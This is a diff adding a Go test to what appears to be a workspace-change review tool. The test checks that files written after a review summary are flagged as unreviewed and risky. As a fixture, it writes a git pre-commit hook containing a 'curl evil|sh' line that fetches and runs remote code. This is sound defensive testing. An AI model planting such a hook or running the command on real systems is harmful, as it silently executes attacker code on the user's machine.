@@ -396,3 +396,48 @@ func TestPatchAgainstStartCommit(t *testing.T) {
 		t.Errorf("patch against the agent's commit:\n%s", got)
 	}
 }
+
+// A hook written after the summary (a guest job while the VM idles) is not
+// absorbed silently into the next start's baseline: Unreviewed lists it,
+// and not what the summary already showed.
+func TestUnreviewedAfterSummary(t *testing.T) {
+	root := t.TempDir()
+	write(t, root, "README.md", "a\n", 0o644)
+	dir := filepath.Join(t.TempDir(), "wsdiff")
+	start, err := Record(dir, []string{root})
+	if err != nil {
+		t.Fatal(err)
+	}
+	write(t, root, "Makefile", "all:\n", 0o644) // shown by the summary
+	now, _, err := Since(start)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := MarkReviewed(dir, now); err != nil {
+		t.Fatal(err)
+	}
+	write(t, root, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil|sh\n", 0o755) // after it
+	if _, err := Record(dir, []string{root}); err != nil {
+		t.Fatal(err)
+	}
+	cs, err := Unreviewed(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := byPath(cs)
+	if c, ok := got[".git/hooks/pre-commit"]; !ok || !c.Risky {
+		t.Errorf("hook written after the summary: %+v", cs)
+	}
+	if _, ok := got["Makefile"]; ok {
+		t.Errorf("reviewed change listed again: %+v", cs)
+	}
+	// No summary printed in the session before: all of it is unreviewed.
+	write(t, root, "package.json", "{}", 0o644)
+	if _, err := Record(dir, []string{root}); err != nil {
+		t.Fatal(err)
+	}
+	cs, _ = Unreviewed(dir)
+	if c, ok := byPath(cs)["package.json"]; !ok || !c.Risky || len(cs) != 1 {
+		t.Errorf("unreviewed = %+v", cs)
+	}
+}
